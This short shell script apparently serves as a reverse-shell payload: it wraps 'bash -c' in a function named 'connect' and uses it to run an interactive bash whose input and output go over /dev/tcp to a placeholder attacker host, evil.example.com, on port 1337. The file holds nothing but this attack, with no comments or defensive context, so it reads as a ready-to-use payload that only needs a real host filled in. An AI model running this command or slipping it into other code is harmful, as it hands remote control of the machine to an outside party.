#!/bin/sh
function connect {
  bash -c "$*"
}
connect "bash -i >& /dev/tcp/evil.example.com/1337 0>&1"
